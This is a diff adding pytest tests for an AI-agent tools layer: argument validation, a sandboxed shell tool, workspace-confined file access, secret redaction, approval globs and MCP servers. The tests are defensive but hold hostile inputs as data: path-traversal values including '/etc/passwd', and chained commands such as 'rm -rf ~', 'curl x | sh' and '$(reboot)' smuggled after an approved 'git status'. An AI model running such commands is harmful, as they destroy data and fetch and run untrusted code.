@@ -1,0 +1,341 @@
+"""The tools layer: registry and argument validation, built-in tools, redaction, and MCP tools."""
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from server.tools.base import Tool, ToolContext, ToolError
+from server.tools.builtin import SHELL_OUTPUT_LIMIT, builtin_tools
+from server.tools.mcp import McpServerConfig, McpStartError, McpTools, sanitize_name
+from server.tools.redact import REDACTED, args_match, redact
+from server.tools.registry import ToolArgumentError, ToolRegistry, parse_arguments
+
+ECHO_SERVER = Path(__file__).parent / "fixtures" / "mcp_echo_server.py"
+
+
+async def run(registry: ToolRegistry, name: str, args: dict, ctx: ToolContext) -> str:
+    tool = registry.get(name)
+    assert tool is not None and tool.run is not None
+    return await tool.run(args, ctx)
+
+
+# --- registry and arguments ---------------------------------------------------------------------
+
+def test_missing_required_argument_is_reported_with_its_location(tool_registry: ToolRegistry) -> None:
+    with pytest.raises(ToolArgumentError) as err:
+        parse_arguments(tool_registry.get("shell_exec"), '{"timeout": 5}')
+    assert str(err.value) == "'command' is a required property (at $)"
+
+
+def test_argument_of_wrong_type_is_rejected(tool_registry: ToolRegistry) -> None:
+    with pytest.raises(ToolArgumentError, match=r"is not of type 'integer' \(at \$\.timeout\)"):
+        parse_arguments(tool_registry.get("shell_exec"), '{"command": "ls", "timeout": "soon"}')
+    with pytest.raises(ToolArgumentError, match=r"\(at \$\.timeout\)"):
+        parse_arguments(tool_registry.get("shell_exec"), '{"command": "ls", "timeout": 500}')
+
+
+def test_arguments_that_are_not_json_are_rejected(tool_registry: ToolRegistry) -> None:
+    with pytest.raises(ToolArgumentError, match="^arguments are not valid JSON: "):
+        parse_arguments(tool_registry.get("shell_exec"), '{"command": "ls"')
+
+
+def test_arguments_that_are_not_an_object_are_rejected(tool_registry: ToolRegistry) -> None:
+    with pytest.raises(ToolArgumentError, match="^arguments must be an object, got array$"):
+        parse_arguments(tool_registry.get("shell_exec"), '["ls"]')
+    with pytest.raises(ToolArgumentError, match="got string"):
+        parse_arguments(tool_registry.get("shell_exec"), '"ls"')
+
+
+def test_empty_arguments_count_as_an_empty_object() -> None:
+    no_args = Tool(name="ping", description="", parameters={"type": "object", "properties": {}})
+    assert parse_arguments(no_args, "") == {}
+    assert parse_arguments(no_args, "  ") == {}
+
+
+def test_empty_arguments_still_need_the_required_properties(tool_registry: ToolRegistry) -> None:
+    with pytest.raises(ToolArgumentError, match="'command' is a required property"):
+        parse_arguments(tool_registry.get("shell_exec"), "")
+
+
+def test_valid_arguments_are_returned_parsed(tool_registry: ToolRegistry) -> None:
+    args = parse_arguments(tool_registry.get("shell_exec"), '{"command": "ls -la", "timeout": 5}')
+    assert args == {"command": "ls -la", "timeout": 5}
+
+
+def test_several_schema_errors_are_listed_without_dumping_huge_values() -> None:
+    tool = Tool(name="four", description="", parameters={
+        "type": "object", "properties": {k: {"type": "integer"} for k in "abcd"}, "required": list("abcd")})
+    raw = json.dumps({"a": "x" * 10_000, "b": "y", "c": "z", "d": "w"})
+    with pytest.raises(ToolArgumentError) as err:
+        parse_arguments(tool, raw)
+    message = str(err.value)
+    assert "(at $.a)" in message and message.endswith("; and 1 more")
+    assert len(message) < 1000
+
+
+def test_registry_rejects_invalid_names_duplicates_and_broken_schemas(tool_registry: ToolRegistry) -> None:
+    for bad in ("client.requestApproval", "has space", "", "x" * 65):
+        with pytest.raises(ValueError, match="invalid tool name"):
+            tool_registry.register(Tool(name=bad, description="", parameters={"type": "object"}))
+    with pytest.raises(ValueError, match="already registered"):
+        tool_registry.register(builtin_tools()[0])
+    with pytest.raises(ValueError, match="invalid parameter schema"):
+        tool_registry.register(Tool(name="broken", description="", parameters={"type": "no-such-type"}))
+    assert "broken" not in tool_registry
+
+
+def test_specs_are_sorted_by_name_and_filtered(tool_registry: ToolRegistry) -> None:
+    names = [spec["function"]["name"] for spec in tool_registry.specs()]
+    assert names == ["file_read", "file_write", "shell_exec", "ui_notify"]
+    only = tool_registry.specs(["shell_exec", "file_read", "gone__tool"])
+    assert [spec["function"]["name"] for spec in only] == ["file_read", "shell_exec"]
+    assert only[1] == {"type": "function", "function": {
+        "name": "shell_exec", "description": tool_registry.get("shell_exec").description,
+        "parameters": tool_registry.get("shell_exec").parameters}}
+
+
+def test_unregister_prefix_removes_only_that_server(tool_registry: ToolRegistry) -> None:
+    for name in ("gh__issues", "gh__pulls", "ghx__other"):
+        tool_registry.register(Tool(name=name, description="", parameters={"type": "object"}))
+    assert tool_registry.unregister_prefix("gh__") == ["gh__issues", "gh__pulls"]
+    assert tool_registry.get("gh__issues") is None and tool_registry.get("ghx__other") is not None
+
+
+def test_builtin_approval_policies(tool_registry: ToolRegistry) -> None:
+    shell, read, write, notify = (tool_registry.get(n) for n in ("shell_exec", "file_read", "file_write", "ui_notify"))
+    assert shell.requires_approval and write.requires_approval
+    assert not read.requires_approval and read.read_only and read.idempotent
+    assert notify.location == "client" and notify.run is None and not notify.requires_approval
+
+
+# --- shell_exec ---------------------------------------------------------------------------------
+
+async def test_shell_runs_in_the_workspace(tool_registry: ToolRegistry, tool_context: ToolContext) -> None:
+    out = json.loads(await run(tool_registry, "shell_exec", {"command": "pwd; echo hi > made.txt; exit 3"},
+                               tool_context))
+    assert out["output"].strip() == str(tool_context.workspace.resolve())
+    assert out["exit_code"] == 3 and not out["timed_out"] and not out["truncated"]
+    assert (tool_context.workspace / "made.txt").read_text() == "hi\n"
+
+
+async def test_shell_creates_a_missing_workspace(tool_registry: ToolRegistry, tmp_path: Path) -> None:
+    ctx = ToolContext(world="w", agent="a", chat="c", workspace=tmp_path / "new" / "ws")
+    out = json.loads(await run(tool_registry, "shell_exec", {"command": "echo ok"}, ctx))
+    assert out["output"] == "ok\n" and ctx.workspace.is_dir()
+
+
+async def test_shell_output_is_capped_with_a_marker(tool_registry: ToolRegistry, tool_context: ToolContext) -> None:
+    out = json.loads(await run(tool_registry, "shell_exec",
+                               {"command": "echo START; yes line | head -c 300000; echo; echo END"}, tool_context))
+    assert out["truncated"] and out["exit_code"] == 0
+    assert out["output"].startswith("START\n") and out["output"].endswith("END\n")
+    assert "output truncated" in out["output"]
+    assert len(out["output"].encode()) < SHELL_OUTPUT_LIMIT + 200
+
+
+async def test_shell_merges_stderr_and_closes_stdin(tool_registry: ToolRegistry, tool_context: ToolContext) -> None:
+    out = json.loads(await run(tool_registry, "shell_exec", {"command": "echo oops >&2; cat; echo done"},
+                               tool_context))
+    assert out["output"] == "oops\ndone\n"  # `cat` saw EOF at once instead of waiting
+
+
+async def test_shell_times_out_and_kills_the_process_group(tool_registry: ToolRegistry,
+                                                           tool_context: ToolContext) -> None:
+    started = time.monotonic()
+    out = json.loads(await run(tool_registry, "shell_exec",
+                               {"command": "sleep 30 & echo $! > bg.pid; echo started; sleep 30", "timeout": 1},
+                               tool_context))
+    assert time.monotonic() - started < 5
+    assert out["timed_out"] and out["output"] == "started\n" and out["exit_code"] != 0
+    background = int((tool_context.workspace / "bg.pid").read_text())
+    await asyncio.sleep(0.1)
+    assert not _alive(background)
+
+
+async def test_shell_does_not_wait_for_background_children(tool_registry: ToolRegistry,
+                                                           tool_context: ToolContext) -> None:
+    started = time.monotonic()
+    out = json.loads(await run(tool_registry, "shell_exec", {"command": "sleep 30 & echo bye"}, tool_context))
+    assert time.monotonic() - started < 5
+    assert out == {"exit_code": 0, "output": "bye\n", "truncated": False, "timed_out": False}
+
+
+async def test_shell_does_not_leak_server_secrets(tool_registry: ToolRegistry, tool_context: ToolContext,
+                                                  monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-very-secret")
+    monkeypatch.setenv("AGENT_WORLD_TOKEN", "tok-very-secret")
+    out = json.loads(await run(tool_registry, "shell_exec", {"command": "env"}, tool_context))
+    assert "very-secret" not in out["output"]
+    assert f"HOME={tool_context.workspace.resolve()}" in out["output"]
+    assert "PATH=" in out["output"]
+
+
+def _alive(pid: int) -> bool:
+    try:
+        os.kill(pid, 0)
+    except ProcessLookupError:
+        return False
+    # A killed child of an exited shell may linger as a zombie until init reaps it.
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] != "Z"
+    except (FileNotFoundError, IndexError):
+        return False
+
+
+# --- file_read / file_write ---------------------------------------------------------------------
+
+async def test_file_write_then_read_round_trips(tool_registry: ToolRegistry, tool_context: ToolContext) -> None:
+    written = json.loads(await run(tool_registry, "file_write", {"path": "a/b/notes.txt", "content": "héllo\n"},
+                                   tool_context))
+    assert written == {"path": "a/b/notes.txt", "bytes": 7}
+    assert await run(tool_registry, "file_read", {"path": "a/b/notes.txt"}, tool_context) == "héllo\n"
+    inside = str(tool_context.workspace / "a" / "b" / "notes.txt")
+    assert await run(tool_registry, "file_read", {"path": inside}, tool_context) == "héllo\n"
+
+
+@pytest.mark.parametrize("path", ["../outside.txt", "a/../../outside.txt", "/etc/passwd"])
+async def test_file_tools_refuse_paths_outside_the_workspace(tool_registry: ToolRegistry,
+                                                             tool_context: ToolContext, path: str) -> None:
+    (tool_context.workspace.parent / "outside.txt").write_text("secret")
+    with pytest.raises(ToolError, match="outside the workspace"):
+        await run(tool_registry, "file_read", {"path": path}, tool_context)
+    with pytest.raises(ToolError, match="outside the workspace"):
+        await run(tool_registry, "file_write", {"path": path, "content": "x"}, tool_context)
+    assert (tool_context.workspace.parent / "outside.txt").read_text() == "secret"
+
+
+async def test_file_tools_refuse_a_symlink_leaving_the_workspace(tool_registry: ToolRegistry,
+                                                                 tool_context: ToolContext) -> None:
+    outside = tool_context.workspace.parent / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("secret")
+    (tool_context.workspace / "link").symlink_to(outside)
+    (tool_context.workspace / "dangling").symlink_to(outside / "new.txt")
+    with pytest.raises(ToolError, match="outside the workspace"):
+        await run(tool_registry, "file_read", {"path": "link/secret.txt"}, tool_context)
+    with pytest.raises(ToolError, match="outside the workspace"):
+        await run(tool_registry, "file_write", {"path": "dangling", "content": "x"}, tool_context)
+    assert not (outside / "new.txt").exists()
+
+
+async def test_file_read_follows_symlinks_that_stay_inside(tool_registry: ToolRegistry,
+                                                           tool_context: ToolContext) -> None:
+    (tool_context.workspace / "real.txt").write_text("data")
+    (tool_context.workspace / "alias.txt").symlink_to(tool_context.workspace / "real.txt")
+    assert await run(tool_registry, "file_read", {"path": "alias.txt"}, tool_context) == "data"
+
+
+async def test_file_read_caps_size_and_reports_missing_files(tool_registry: ToolRegistry,
+                                                             tool_context: ToolContext) -> None:
+    (tool_context.workspace / "big.bin").write_bytes(b"a" * 100 + b"\xff" + b"b" * 100)
+    text = await run(tool_registry, "file_read", {"path": "big.bin", "max_bytes": 101}, tool_context)
+    assert text.startswith("a" * 100 + "\ufffd") and "showing 101 of 201 bytes" in text
+    with pytest.raises(ToolError, match="^no such file: missing.txt$"):
+        await run(tool_registry, "file_read", {"path": "missing.txt"}, tool_context)
+    with pytest.raises(ToolError, match="is a directory"):
+        await run(tool_registry, "file_read", {"path": "."}, tool_context)
+
+
+# --- redaction and rule globs -------------------------------------------------------------------
+
+def test_redact_hides_secret_looking_keys_at_any_depth() -> None:
+    original = {"command": "deploy", "API_KEY": "sk-1", "nested": [{"Password": "p", "user": "bob",
+                                                                   "deeper": {"github_token": {"v": 1}}}]}
+    clean = redact(original)
+    assert clean == {"command": "deploy", "API_KEY": REDACTED, "nested": [
+        {"Password": REDACTED, "user": "bob", "deeper": {"github_token": REDACTED}}]}
+    assert original["API_KEY"] == "sk-1" and original["nested"][0]["Password"] == "p"  # a copy
+    assert redact("plain") == "plain" and redact([1, {"x": 2}]) == [1, {"x": 2}]
+
+
+def test_args_match_uses_case_sensitive_globs() -> None:
+    assert args_match({"command": "git status*"}, {"command": "git status --short"})
+    assert not args_match({"command": "git status*"}, {"command": "GIT STATUS"})
+    assert not args_match({"command": "git status*"}, {"cmd": "git status"})
+    assert args_match({}, {"command": "anything"})
+    assert args_match({"timeout": "1?"}, {"command": "x", "timeout": 10})
+    assert args_match({"opts": '{"a":1,"b":*}'}, {"opts": {"b": [2], "a": 1}})
+    assert not args_match({"command": "ls", "timeout": "5"}, {"command": "ls", "timeout": 6})
+
+
+# --- MCP ----------------------------------------------------------------------------------------
+
+def echo_config(name: str = "echo") -> McpServerConfig:
+    return McpServerConfig(name=name, command=sys.executable, args=[str(ECHO_SERVER)],
+                           env={"ECHO_MARKER": "1"})
+
+
+async def test_mcp_tools_are_named_by_server_with_approval_from_annotations(tmp_path: Path,
+                                                                            tool_context: ToolContext) -> None:
+    async with McpTools([echo_config()]) as mcp:
+        tools = {tool.name: tool for tool in mcp.tools()}
+        assert set(tools) == {"echo__echo", "echo__count", "echo__fail", "echo__getenv"}
+        echo, count = tools["echo__echo"], tools["echo__count"]
+        assert not echo.requires_approval and echo.read_only and echo.idempotent
+        assert count.requires_approval and not count.read_only and not count.idempotent
+        assert count.parameters["required"] == ["path"] and count.parameters["type"] == "object"
+
+        registry = ToolRegistry()
+        for tool in mcp.tools():
+            registry.register(tool)
+        args = parse_arguments(echo, '{"text": "hello"}')
+        assert await echo.run(args, tool_context) == "hello"
+        counter = tmp_path / "count.txt"
+        assert await count.run({"path": str(counter)}, tool_context) == "1"
+        assert await count.run({"path": str(counter)}, tool_context) == "2"
+        assert counter.read_text() == "x\nx\n"
+        with pytest.raises(ToolError, match="fail"):
+            await tools["echo__fail"].run({"message": "boom"}, tool_context)
+        # The config's env reaches the server; the server's own secrets do not.
+        getenv = tools["echo__getenv"]
+        assert await getenv.run({"name": "ECHO_MARKER"}, tool_context) == "1"
+        assert await getenv.run({"name": "OPENAI_API_KEY"}, tool_context) == ""
+        assert mcp.alive("echo")
+    assert not mcp.alive("echo")
+    with pytest.raises(ToolError, match="not running"):
+        await echo.run({"text": "late"}, tool_context)
+
+
+async def test_mcp_server_that_cannot_start_gives_a_clear_error() -> None:
+    mcp = McpTools(start_timeout=5)
+    try:
+        with pytest.raises(McpStartError, match=r"'ghost' \(/no/such/mcp-server --flag\) failed to start"):
+            await mcp.add(McpServerConfig(name="ghost", command="/no/such/mcp-server", args=["--flag"]))
+        crash = McpServerConfig(name="crash", command=sys.executable,
+                                args=["-c", "import sys; sys.exit('no config file')"])
+        with pytest.raises(McpStartError, match="(?s)'crash'.*no config file"):
+            await mcp.add(crash)
+        assert mcp.tools() == []
+    finally:
+        await mcp.close()
+
+
+async def test_a_failed_mcp_server_does_not_stop_the_others(tool_context: ToolContext) -> None:
+    bad = McpServerConfig(name="bad", command="/no/such/mcp-server")
+    async with McpTools([bad, echo_config("good")]) as mcp:
+        assert isinstance(mcp.errors["bad"], McpStartError)
+        assert {tool.name for tool in mcp.tools()} == {"good__echo", "good__count", "good__fail", "good__getenv"}
+        echo = next(tool for tool in mcp.tools() if tool.name == "good__echo")
+        assert await echo.run({"text": "still here"}, tool_context) == "still here"
+
+
+def test_mcp_tool_names_are_sanitized() -> None:
+    assert sanitize_name("read.file/v2") == "read_file_v2"
+    assert len(sanitize_name("x" * 100, 10)) == 10
+
+
+def test_a_wildcard_never_approves_a_chained_shell_command() -> None:
+    from server.tools.redact import args_match
+
+    assert args_match({"command": "git status*"}, {"command": "git status --short"})
+    assert not args_match({"command": "git status*"}, {"command": "git status; rm -rf ~"})
+    assert not args_match({"command": "git status*"}, {"command": "git status && curl x | sh"})
+    assert not args_match({"command": "git status*"}, {"command": "git status $(reboot)"})
+    assert not args_match({"command": "git status*"}, {"command": "git status\nreboot"})
+    assert args_match({"command": "make > log*"}, {"command": "make > log.txt"})
